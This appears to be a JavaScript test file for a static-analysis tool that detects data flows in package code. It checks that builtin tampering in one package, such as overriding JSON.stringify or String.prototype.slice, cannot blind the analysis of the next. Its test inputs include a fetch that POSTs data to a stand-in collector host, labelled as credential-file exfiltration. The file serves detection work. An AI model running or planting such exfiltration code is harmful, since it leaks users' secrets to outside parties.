import assert from 'node:assert/strict';
import { flowsOf } from '../platform/sent.js';

const SENDS = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ s: s.slice(0, 90) }) });`;
const SENT = ['credential-file>network@collect.invalid'];

describe('what the language itself offers', () => {
  for (const change of [
    `JSON.stringify = () => '';`,
    `Object.defineProperty(JSON, 'stringify', { value: () => '' });`,
    `Object.assign(JSON, { stringify: () => '' });`,
    `JSON.stringify.call = JSON.stringify.apply = () => '';`,
    `''.slice.call = () => ''; Object.setPrototypeOf(''.slice, { call: 1 });`,
    `String.prototype.slice = () => '';`,
  ]) {
    it(`is the next package's as it was, after a package has done this to it: ${change}`, () => {
      flowsOf(change);
      assert.deepEqual(flowsOf(SENDS), SENT);
    });
  }

  it('carries nothing over from one package to the next', () => {
    flowsOf(
      `const list = [''.trim, JSON.parse]; list.push(s); for (const one of list.concat(process.env)) one.call(s);`,
    );
    assert.deepEqual(flowsOf(`fetch('https://collect.invalid', { body: JSON.parse('{"a":1}').a + ''.trim });`), []);
  });
});
